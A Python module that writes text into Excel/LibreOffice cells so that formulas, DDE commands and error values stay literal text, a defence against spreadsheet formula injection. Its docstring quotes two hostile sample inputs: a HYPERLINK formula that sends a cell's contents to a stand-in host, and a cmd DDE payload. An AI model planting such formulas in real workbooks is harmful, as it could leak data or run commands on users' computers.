"""Text written into a spreadsheet cell stays text: never a formula, never an error value, never a crash.

Names, villages and notes come from people and from other offices' files. A text such as
`=HYPERLINK("http://x/"&B3)` or `=cmd|' /C calc'!A0` must reach Excel and LibreOffice as the literal text,
shown as typed. Every workbook writer of BVTE puts its texts through this module:

- the cell is stored as a text cell (an inline string, `t="inlineStr"`), which both Excel and LibreOffice
  show as it is and never evaluate;
- a text that starts like a formula (`= + - @`, their full-width forms, a tab, a carriage return or a line
  feed) or looks like an error value (`#N/A`) also gets the "quote prefix" style: the cell behaves as if
  typed with a leading apostrophe, so editing it in Excel/LibreOffice (F2, Enter) keeps it text. The
  apostrophe is not part of the value: what a person sees is exactly what was typed;
- characters a workbook cannot hold (control characters) are dropped and the text is cut at Excel's
  32,767-character limit, instead of the export failing.

`put(cell, value)` works on any openpyxl cell (normal or write-only); `cell_xml(...)` is the same rule for
code that writes a sheet's XML itself.
"""
from __future__ import annotations

import re
from typing import Any

MAX_CELL_CHARS = 32_767  # Excel's limit for one cell
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ERROR_VALUES = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A", "#GETTING_DATA"})
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")  # not allowed in the sheet's XML
_NEEDS_ESCAPE = re.compile(r"[&<>\r]")
_XML_ESCAPES = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;", "\r": "&#13;"})  # a bare CR would be read as LF


_RISKY_FIRST = frozenset("".join(FORMULA_STARTS) + " #")


def clean(text: str) -> str:
    """The text as a cell can hold it: control characters dropped, at most 32,767 characters."""
    text = str(text)
    if _ILLEGAL.search(text):
        text = _ILLEGAL.sub("", text)
    return text[:MAX_CELL_CHARS]


def needs_quote(text: str) -> bool:
    """True for a text a spreadsheet program would read as a formula or an error value if typed."""
    if text[:1] not in _RISKY_FIRST:
        return False
    stripped = text.lstrip(" ")
    return bool(stripped) and (stripped.startswith(FORMULA_STARTS) or stripped.upper() in ERROR_VALUES)


def put(cell, value: Any):
    """Set an openpyxl cell's value; a text is always stored as text (see the module note). Returns the cell."""
    if isinstance(value, str):
        value = clean(value)
        cell.value = value
        cell.data_type = "s"  # openpyxl would make '=…' a formula and '#N/A' an error
        if needs_quote(value):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def write(ws, row: int, column: int, value: Any = None):
    """`ws.cell(row, column, value)` with the value put through `put`."""
    cell = ws.cell(row, column)
    if value is not None:
        put(cell, value)
    return cell


def append(ws, values) -> int:
    """`ws.append(values)` with every text put through `put`; returns the row number written."""
    ws.append([None if isinstance(v, str) else v for v in values])
    row = ws._current_row
    for k, v in enumerate(values, start=1):
        if isinstance(v, str):
            put(ws.cell(row, k), v)
    return row


def inline_string_xml(coordinate: str, style_id: int, text: str) -> str:
    """One text cell as sheet XML (`<c t="inlineStr">`), for writers that produce the XML themselves.
    The caller gives the style id, with quote prefix when `needs_quote(text)`."""
    text = clean(text)
    if text == "":
        return f'<c r="{coordinate}" s="{style_id}" t="inlineStr" />'
    stripped = text.strip()
    space = ' xml:space="preserve"' if stripped and stripped != text else ""  # as openpyxl writes it
    return (f'<c r="{coordinate}" s="{style_id}" t="inlineStr"><is><t{space}>'
            f'{text.translate(_XML_ESCAPES) if _NEEDS_ESCAPE.search(text) else text}</t></is></c>')
